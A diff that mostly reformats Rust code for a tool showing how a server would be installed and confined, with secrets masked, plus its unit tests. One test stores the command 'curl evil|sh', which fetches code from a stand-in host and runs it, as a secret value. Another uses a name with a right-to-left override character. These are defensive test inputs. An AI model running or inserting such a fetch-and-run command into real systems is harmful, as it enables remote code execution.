@@ -23,9 +23,14 @@ pub(crate) fn show(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -
     };
     for (key, value) in members {
         match (key.as_str(), value) {
-            ("command", Value::String(command)) => line("runs", &command_line(command, &plan.shown)),
+            ("command", Value::String(command)) => {
+                line("runs", &command_line(command, &plan.shown))
+            }
             ("from", Value::String(from)) => line("runs", &command_line(from, &plan.shown)),
-            ("lock", Value::String(hash)) => line("lock", &format!("{hash}, over all its packages and their hashes")),
+            ("lock", Value::String(hash)) => line(
+                "lock",
+                &format!("{hash}, over all its packages and their hashes"),
+            ),
             ("args", _) => {}
             ("url", _) => line("url", &plan.shown.concat()),
             ("env" | "headers", Value::Object(fields)) => {
@@ -78,7 +83,10 @@ pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
             ("env" | "headers", serde_json::Value::Object(fields)) => {
                 for (name, value) in fields {
                     match value.as_str() {
-                        Some(text) if key == "headers" && (name_says_secret(name) || looks_secret(text)) => {
+                        Some(text)
+                            if key == "headers"
+                                && (name_says_secret(name) || looks_secret(text)) =>
+                        {
                             line(key, &format!("{name}={HIDDEN}"));
                         }
                         Some(text) => line(key, &format!("{name}={text}")),
@@ -117,7 +125,10 @@ fn secret(plan: &InstallPlan, name: &str, scope: &InstallScope) -> String {
         Some(shown) if shown != HIDDEN => format!("{name}={shown}"),
         _ => format!("{name} {HIDDEN}"),
     };
-    format!("{shown}, in {} ({mode})", scope.secrets.join(file).display())
+    format!(
+        "{shown}, in {} ({mode})",
+        scope.secrets.join(file).display()
+    )
 }
 
 fn json(value: &Value) -> String {
@@ -128,7 +139,9 @@ fn json(value: &Value) -> String {
         Value::String(text) => text.clone(),
         Value::Array(items) => items.iter().map(json).collect::<Vec<_>>().join(", "),
         Value::Object(members) => {
-            let members = members.iter().map(|(key, value)| format!("{key}: {}", json(value)));
+            let members = members
+                .iter()
+                .map(|(key, value)| format!("{key}: {}", json(value)));
             members.collect::<Vec<_>>().join("; ")
         }
     }
@@ -136,12 +149,15 @@ fn json(value: &Value) -> String {
 
 /// The confinement of a server, a line each.
 fn confinement(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -> Vec<String> {
-    if matches!(&plan.entry, Value::Object(members) if members.iter().any(|(key, _)| key == "url" || key == "ssh")) {
+    if matches!(&plan.entry, Value::Object(members) if members.iter().any(|(key, _)| key == "url" || key == "ssh"))
+    {
         return vec!["nothing of it runs here".to_owned()];
     }
     match plan.command().and_then(container_runner) {
         None => {}
-        Some("podman") => return vec!["by a container that podman starts as you, as its options say".to_owned()],
+        Some("podman") => {
+            return vec!["by a container that podman starts as you, as its options say".to_owned()];
+        }
         Some(runner) => {
             return vec![format!(
                 "by a container that {runner} starts, as its options say: {runner}'s own daemon is root, and so is on this \
@@ -150,7 +166,9 @@ fn confinement(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -> Ve
         }
     }
     let as_whom = match scope.is_service() {
-        true => "by nothing: it runs as the daemon's user, with all that user's files and the network",
+        true => {
+            "by nothing: it runs as the daemon's user, with all that user's files and the network"
+        }
         false => "by nothing: it runs as you, with all your files and the network",
     };
     if !is_freebsd {
@@ -164,7 +182,11 @@ fn confinement(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -> Ve
     let root = format!("{JAIL_ROOTS}/{}", plan.id);
     let script = MAKE_ROOT;
     // What make-root.sh takes.
-    let legal = |exact: &String| exact.chars().all(|c| c.is_ascii_alphanumeric() || "@/._=-".contains(c));
+    let legal = |exact: &String| {
+        exact
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "@/._=-".contains(c))
+    };
     let origin = plan
         .package
         .as_ref()
@@ -239,7 +261,11 @@ mod tests {
             id: "git".to_owned(),
             name: "Git\u{202e}".to_owned(),
             entry,
-            secrets: vec![("TOKEN".to_owned(), "git-token".to_owned(), "hunter2-hunter2".to_owned())],
+            secrets: vec![(
+                "TOKEN".to_owned(),
+                "git-token".to_owned(),
+                "hunter2-hunter2".to_owned(),
+            )],
             package,
             shown: ["--key", HIDDEN, "a b"].map(str::to_owned).to_vec(),
             shown_secrets: BTreeMap::new(),
@@ -261,7 +287,10 @@ mod tests {
             ),
             (
                 "env".to_owned(),
-                Value::Object(vec![("TOKEN".to_owned(), secret), ("LOG".to_owned(), text("warn"))]),
+                Value::Object(vec![
+                    ("TOKEN".to_owned(), secret),
+                    ("LOG".to_owned(), text("warn")),
+                ]),
             ),
         ])
     }
@@ -299,7 +328,13 @@ mod tests {
     #[test]
     fn a_container_is_shown_as_what_it_is() {
         let entry = |command: &str| Value::Object(vec![("command".to_owned(), text(command))]);
-        let shown = |command: &str| show(&plan(entry(command), None), &scope(Some("/c".into())), false);
+        let shown = |command: &str| {
+            show(
+                &plan(entry(command), None),
+                &scope(Some("/c".into())),
+                false,
+            )
+        };
         let docker = shown("/usr/bin/docker");
         assert!(
             docker.contains("a container that docker starts") && docker.contains("is root"),
@@ -312,9 +347,13 @@ mod tests {
     #[test]
     fn what_a_stranger_chose_is_shown_in_its_file() {
         let mut plan = plan(process(), None);
-        plan.shown_secrets.insert("TOKEN".to_owned(), "curl evil|sh".to_owned());
+        plan.shown_secrets
+            .insert("TOKEN".to_owned(), "curl evil|sh".to_owned());
         let shown = show(&plan, &scope(None), false);
-        assert!(shown.contains("TOKEN=curl evil|sh, in /x/s/git-token"), "{shown}");
+        assert!(
+            shown.contains("TOKEN=curl evil|sh, in /x/s/git-token"),
+            "{shown}"
+        );
     }
 
     #[test]
@@ -335,7 +374,10 @@ mod tests {
         ] {
             assert!(shown.contains(part), "{part}: {shown}");
         }
-        assert!(!shown.contains("hunter2") && !shown.contains("disabled"), "{shown}");
+        assert!(
+            !shown.contains("hunter2") && !shown.contains("disabled"),
+            "{shown}"
+        );
     }
 
     #[test]
@@ -355,7 +397,10 @@ mod tests {
         let extras = plan(process(), Some("pypi:a[b]==1.0.0"));
         assert!(show(&extras, &scope(None), true).contains("-k PACKAGE"));
         let shown = show(&plan(process(), None), &scope(None), true);
-        assert!(shown.contains("-k PACKAGE") && shown.contains("by hand"), "{shown}");
+        assert!(
+            shown.contains("-k PACKAGE") && shown.contains("by hand"),
+            "{shown}"
+        );
         let shown = show(&plan(process(), None), &scope(Some("/c".into())), true);
         assert!(shown.contains("(--service)"), "{shown}");
         let url = Value::Object(vec![("url".to_owned(), text("https://h/mcp"))]);
